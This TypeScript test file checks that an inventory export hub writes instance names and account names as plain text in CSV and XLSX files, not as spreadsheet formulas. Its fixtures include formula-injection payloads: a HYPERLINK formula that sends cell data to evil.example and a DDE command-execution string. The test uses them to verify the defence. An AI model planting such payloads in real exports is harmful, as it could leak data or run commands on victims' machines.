import { readFile, readdir } from "node:fs/promises";
import { join } from "node:path";
import ExcelJS from "exceljs";
import { parse } from "csv-parse/sync";
import { runHub } from "@wshub/hub";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { exampleSmall, startWorld, type World } from "../src/harness.js";

const NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")';
const TAG = "+cmd|' /C calc'!A0";

let world: World;
beforeAll(async () => {
  const scenario = exampleSmall();
  const payments = scenario.organization.accounts.find((a) => a.id === "333333333333")!;
  payments.name = "@SUM(1+1)";
  const web = scenario.instances.find((i) => i.instanceId === "i-0a10000000000001")!;
  web.tags = { ...web.tags, Name: NAME, Owner: TAG };
  web.name = NAME;
  world = await startWorld(scenario);
});
afterAll(async () => world?.stop());

describe("formula injection", () => {
  it("writes account names and instance Name tags as text in CSV (quoted) and XLSX (typed strings), never as formulas", async () => {
    const hub = await world.hub();
    const outcome = await runHub(hub);
    const folder = join(world.outputDir, outcome.run.runId);
    const files = await readdir(folder);
    const csv = parse(
      await readFile(
        join(
          folder,
          files.find((f) => f.includes("333333333333") && f.endsWith(".csv"))!,
        ),
        "utf8",
      ),
      { columns: true },
    ) as Record<string, string>[];
    const row = csv.find((r) => r["instance_id"] === "i-0a10000000000001")!;
    expect(row["instance_name"]).toBe(`'${NAME}`);
    expect(row["account_name"]).toBe("'@SUM(1+1)");

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(
      join(
        folder,
        files.find((f) => f.includes("333333333333") && f.endsWith(".xlsx"))!,
      ),
    );
    const sheet = workbook.getWorksheet("Coverage")!;
    const header = (sheet.getRow(1).values as string[]).slice(1);
    const nameColumn = header.indexOf("instance_name") + 1;
    let seen = 0;
    sheet.eachRow((r, n) => {
      if (n === 1) return;
      const cell = r.getCell(nameColumn);
      if (String(cell.value).includes("HYPERLINK")) {
        seen++;
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        expect(cell.formula).toBeUndefined();
        // A typed string needs no guard: the cell shows the name exactly as the tag holds it.
        expect(cell.value).toBe(NAME);
      }
    });
    expect(seen).toBeGreaterThan(0);
  });
});
